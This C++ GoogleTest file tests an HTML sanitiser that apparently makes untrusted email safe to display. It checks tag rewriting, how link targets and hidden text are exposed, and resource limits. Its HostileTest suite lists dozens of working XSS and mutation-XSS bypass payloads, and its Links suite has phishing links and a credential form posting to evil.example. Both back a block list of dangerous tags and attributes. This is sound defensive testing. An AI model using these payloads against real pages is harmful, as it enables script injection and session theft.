#include "guard/render/sanitise.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/text.h"
#include "guard/inspect/url/link_services.h"

namespace rampart::guard::render {
namespace {

using testing::HasSubstr;
using testing::Not;

std::string safe(std::string_view html) {
  const auto out = join(sanitise_html(html, {}).pieces);
  EXPECT_TRUE(is_safe_html(out)) << out;
  return out;
}

std::vector<std::string> notices(std::string_view html) {
  std::vector<std::string> out;
  for (const auto& one : sanitise_html(html, {}).notices) out.emplace_back(to_string(one.notice));
  return out;
}

struct Rewrite {
  std::string_view html;
  std::string_view safe;
};

class RewriteTest : public testing::TestWithParam<Rewrite> {};

TEST_P(RewriteTest, IsWrittenAs) { EXPECT_EQ(safe(GetParam().html), GetParam().safe) << GetParam().html; }

INSTANTIATE_TEST_SUITE_P(
    Plain, RewriteTest,
    testing::Values(
        Rewrite{"<p class=a id=b>hello <b>you</b></p>", "<p>hello <b>you</b></p>"},
        Rewrite{"a &lt;b&gt; &amp; \"c\"", "a &lt;b&gt; &amp; &quot;c&quot;"},
        Rewrite{"<p>one<p>two", "<p>one</p><p>two</p>"},
        Rewrite{"<p><b>one<div>two</div>", "<p><b>one</b></p><div>two</div>"},
        Rewrite{"<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"},
        Rewrite{"<b><i>a</b>c", "<b><i>a</i></b>c"}, Rewrite{"</p></div>a</b>", "a"},
        Rewrite{"<table><tr><td width=\"50%\" colspan=2 onclick=x>a<td>b</table>",
                "<table><tr><td width=\"50%\" colspan=\"2\">a</td><td>b</td></tr></table>"},
        Rewrite{"<table>a<tr>b<td>c</table>d",
                "<table><tr><td>a</td></tr><tr><td>b</td><td>c</td></tr></table>d"},
        Rewrite{"<td>a</td><tr>b", "ab"},
        Rewrite{"<table><td>a<table><td>b</table></table>",
                "<table><tr><td>a<table><tr><td>b</td></tr></table></td></tr></table>"},
        Rewrite{"<center>a</center><section>b</section>", "<div align=\"center\">a</div><div>b</div>"},
        Rewrite{"<font color=red>a</font><font color=\"#fefefe\">b</font>",
                "<font color=\"#ff0000\">a</font><span data-shown=\"hidden\" data-by=\"color\">b</span>"},
        Rewrite{"<table bgcolor=#000080><td style='color:#fff'>a</td><td>b</td></table>",
                "<table bgcolor=\"#000080\"><tr><td><font color=\"#ffffff\">a</font></td><td><font "
                "color=\"#ffffff\">b</font></td></tr></table>"},
        Rewrite{"<div style='background:#000;color:#eee'>a</div>", "<div>a</div>"},
        Rewrite{"<html dir=rtl lang=UR><body>a", "<div dir=\"rtl\" lang=\"ur\">a</div>"},
        Rewrite{"a<br/>b<hr>", "a<br>b<hr>"},
        Rewrite{"<xmp><b>a</b></xmp>", "<pre>&lt;b&gt;a&lt;/b&gt;</pre>"},
        Rewrite{"<mark data-cause=x>a</mark><span data-shown=target>b</span>", "ab"}));

INSTANTIATE_TEST_SUITE_P(
    Links, RewriteTest,
    testing::Values(
        Rewrite{
            "<a href='http://evil.example/x'>bank.example</a>",
            "<span data-shown=\"link\"><font color=\"#0000ee\">bank.example</font></span> <bdi dir=\"ltr\" "
            "data-shown=\"target\">http://evil.example/x</bdi>"},
        Rewrite{"<a href='http://a.example/' style='color:black'>http://a.example/</a>",
                "<span data-shown=\"link\">http://a.example/</span>"},
        Rewrite{"<a href='#top' style='color:black'>up</a><a name=x style='color:black'>y</a>", "upy"},
        Rewrite{"<a style='color:black' href=\"java\tscript&colon;alert(1)\">a</a>",
                "<span data-shown=\"link\">a</span> <bdi dir=\"ltr\" "
                "data-shown=\"target\">java\\x09script:alert(1)</bdi>"},
        Rewrite{"<base href='http://evil.example/'><a style='color:black' href=login>a</a>",
                "<span data-shown=\"link\">a</span> <bdi dir=\"ltr\" "
                "data-shown=\"target\">http://evil.example/login</bdi>"},
        Rewrite{"<a style='color:black' href='http://bank.example@evil.example/'>a</a>",
                "<span data-shown=\"link\">a</span> <bdi dir=\"ltr\" "
                "data-shown=\"target\">http://evil.example/</bdi>"},
        Rewrite{"<img src=http://t.example/p.gif width=1 height=1>",
                "<span data-shown=\"tiny-image\" data-from=\"remote\"></span>"},
        Rewrite{"<img src='cid:logo@x' alt='Our <logo>'>",
                "<span data-shown=\"image\" data-from=\"attached\">Our &lt;logo&gt;</span>"},
        Rewrite{"<img src='data:image/png;base64,AAAA'>",
                "<span data-shown=\"image\" data-from=\"inline\"></span>"},
        Rewrite{"<form action='http://evil.example/p'><input type=password name=pw><input type=hidden "
                "name=x><button "
                "onclick=y>Go</button></form>",
                "<div data-shown=\"form\"> <bdi dir=\"ltr\" "
                "data-shown=\"target\">http://evil.example/p</bdi><span "
                "data-shown=\"field\">pw (password)</span><span data-shown=\"button\">Go</span></div>"},
        Rewrite{"<textarea name=a></textarea><b>x</b></textarea>",
                "<span data-shown=\"field\"></span><b>x</b>"}));

INSTANTIATE_TEST_SUITE_P(
    Hidden, RewriteTest,
    testing::Values(Rewrite{"<div style='display:none'>salt</div>",
                            "<div><span data-shown=\"hidden\" data-by=\"display\">salt</span></div>"},
                    Rewrite{"<style>.h{font-size:0}</style><span class=h>salt</span>",
                            "<span data-shown=\"hidden\" data-by=\"font\">salt</span>"},
                    Rewrite{"pay\xe2\x80\x8bpal", "pay<span data-shown=\"character\">U+200B</span>pal"},
                    Rewrite{"gpj.\xe2\x80\xaetxt", "gpj.<span data-shown=\"character\">U+202E</span>txt"},
                    Rewrite{"a&#8203;&nbsp;&#8203;&#8203;b",
                            "a<span data-shown=\"character\">U+200B \xc3\x97 3</span>\xc2\xa0"
                            "b"},
                    Rewrite{"\xd9\x85\xe2\x80\x8c\xdb\x8c", "\xd9\x85\xe2\x80\x8c\xdb\x8c"},
                    Rewrite{"a\xff"
                            "b\x01"
                            "c",
                            "a\xef\xbf\xbd"
                            "bc"},
                    Rewrite{"<template><b>a</b></template>",
                            "<b><span data-shown=\"hidden\" data-by=\"display\">a</span></b>"},
                    Rewrite{"<noframes><b>a</b></noframes>",
                            "<span data-shown=\"hidden\" data-by=\"display\">&lt;b&gt;a&lt;/b&gt;</span>"}));

// What has got past other sanitisers: nothing of it may be anything but text.
class HostileTest : public testing::TestWithParam<std::string_view> {};

TEST_P(HostileTest, DoesNothing) {
  const auto out = base::lower(safe(GetParam()));
  for (const auto* bad :
       {"<script", "<svg",  "<math",   "<style",  "<iframe",    "<img",      "<form",     "<a ",
        "<base",   "<meta", "<object", "<embed",  "<input",     "<noscript", "<template", "<link",
        "style=",  "href=", "src=",    "srcdoc=", "onerror=\"", "class=",    "id=\""})
    EXPECT_THAT(out, Not(HasSubstr(bad)));
  // Written out and read again it stays what it is: the browser's own reading is one more.
  EXPECT_TRUE(is_safe_html(join(sanitise_html(out, {}).pieces)));
}

INSTANTIATE_TEST_SUITE_P(
    All, HostileTest,
    testing::Values(
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">", "<img src=`x` onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<p title=\"</p><img src=x onerror=alert(1)>\">a</p>",
        "<a title='\"><img src=x onerror=alert(1)>' href=x>y</a>", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>click</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><iframe srcdoc='<script>x</script>'>",
        "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
        "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;\">",
        "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=alert(1)\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x "
        "onerror=alert(1)></style></annotation-xml></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
        "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=//evil.example/x.swf>", "<template><script>alert(1)</script></template>",
        "<template><img src=x onerror=alert(1)></template>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src "
        "onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml <script>alert(1)</script>?>",
        "<%<!--'%><script>alert(1)</script>", "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>", "<a href=\"  \x01javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"jav\nascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<base href=\"javascript:/a/-alert(1)///////\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
        "<style>*{background:url(//evil.example/)}</style><p>a",
        "<p style=\"background:url(javascript:alert(1))\">a</p>",
        "<p style=\"width:expression(alert(1))\">a</p>",
        "<p style=\"-moz-binding:url(//evil.example/x.xml#x)\">a</p>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#fff\">cover</p>",
        "<p style=\"behavior:url(x.htc)\">a</p>",
        "<div style=\"background-image:\\75\\72\\6C\\28//evil.example/\\29\">a</div>",
        "<table background=//evil.example/t.gif><td>a</table>",
        "<body background=//evil.example/ onload=alert(1)>a", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>a</details>",
        "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>a</button>",
        "<isindex type=image src=1 onerror=alert(1)>", "<marquee onstart=alert(1)>a</marquee>",
        "<keygen autofocus onfocus=alert(1)>", "<frameset onload=alert(1)><frame src=//x></frameset>",
        "<map><area href=javascript:alert(1)></map>", "<bdo dir=rtl>)1(trela</bdo>",
        "<plaintext><script>alert(1)</script>", "<x onclick=alert(1)>a</x>", "<p/onclick=alert(1)>a",
        "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>",
        "<a\x0chref=javascript:alert(1)>x</a>", "<<script>alert(1)//<</script>",
        "<table><td><math><style><!--</style></table><img src=x onerror=alert(1)>-->",
        "<span data-shown=\"target\" dir=\"ltr\">https://bank.example/</span>",
        "<p dir=\"x\" lang=\"'\" align=\"x\" width=1>a</p>"));

TEST(Sanitise, TellsWhatItLeftOut) {
  EXPECT_THAT(
      notices(
          "<script>x</script><p onclick=x><iframe src=y></iframe><form></form><svg></svg>"
          "<img src=http://a.example/1><img src=http://a.example/2 width=1><video></video>"
          "<meta http-equiv=refresh content='0;url=z'><base href=http://b.example/><!--[if mso]>x<![endif]-->"
          "<p hidden>x</p>\xe2\x80\x8b<bdo dir=rtl>x</bdo><link href=a>"),
      testing::ElementsAre("scripts", "event-handlers", "styles", "remote-images", "tiny-images", "frames",
                           "media", "forms", "page-redirect", "base", "drawings", "conditional",
                           "hidden-text", "unseen-characters", "turned-text"));
}

TEST(Sanitise, KeepsItsLimits) {
  const auto page = sanitise_html(std::string(300'000, '<') + std::string(10'000, '&'), {.limit = 10'000});
  const auto out = join(page.pieces);
  EXPECT_LE(out.size(), 10'200U);
  EXPECT_TRUE(is_safe_html(out));
  EXPECT_EQ(page.notices.back().notice, Notice::cut);
  std::string deep;
  for (int i = 0; i < 5'000; ++i) deep += "<div><span lang=en><table><td>";
  const auto of_deep = sanitise_html(deep + "x", {});
  EXPECT_TRUE(is_safe_html(join(of_deep.pieces)));
  EXPECT_EQ(of_deep.notices.back().notice, Notice::deeper);
  std::string many;
  for (int i = 0; i < 400'000; ++i) many += "<b>";
  EXPECT_TRUE(is_safe_html(join(sanitise_html(many, {}).pieces)));
  // A target does not fill a page.
  EXPECT_LT(safe("<a href='http://a.example/" + std::string(60'000, 'x') + "'>a</a>").size(), 800U);
}

TEST(Sanitise, PlainTextHasItsLinks) {
  const auto out =
      join(sanitise_text("See <b> https://a.example/x, http://b.example:80/\n\tor not", {}).pieces);
  EXPECT_EQ(out,
            "<pre>See &lt;b&gt; <span data-shown=\"link\">https://a.example/x</span>, <span "
            "data-shown=\"link\">http://b.example:80/</span> <bdi dir=\"ltr\" "
            "data-shown=\"target\">http://b.example/</bdi>\n"
            "    or not</pre>");
  EXPECT_TRUE(is_safe_html(out));
}

TEST(SafeHtml, KnowsWhatIsNot) {
  for (const auto* good : {"", "a", "<p>a</p>", "<table><tr><td>a</td></tr></table>", "<br>",
                           "&lt;script&gt;", "<mark data-cause=\"a b-c\">x</mark>"})
    EXPECT_TRUE(is_safe_html(good)) << good;
  for (const auto* bad : {"<p>",
                          "</p>",
                          "<b><i></b></i>",
                          "<script></script>",
                          "<p onclick=\"x\">a</p>",
                          "<!--a-->",
                          "a < b",
                          "<p",
                          "<a>x</a>",
                          "<p style=\"a\">x</p>",
                          "<br/>",
                          "<svg></svg>",
                          "<title>a</title>",
                          "<td bgcolor=\"red\">a</td>",
                          "<p class=\"x\">a</p>",
                          "<mark data-cause=\"a&quot;\">x</mark>",
                          "<?a>",
                          "<!doctype html>",
                          "<p data-shown=\"link\">a</p>",
                          "\xff",
                          "<p>a</p\t>x<",
                          "<font color=\"#FF0000\">a</font>",
                          "<![CDATA[a]]>",
                          "<p a>x</p>",
                          "<image>",
                          "<font style>a</font>"})
    EXPECT_FALSE(is_safe_html(bad)) << bad;
  EXPECT_FALSE(is_safe_html(std::string_view("a\0b", 3)));
}

}  // namespace
}  // namespace rampart::guard::render
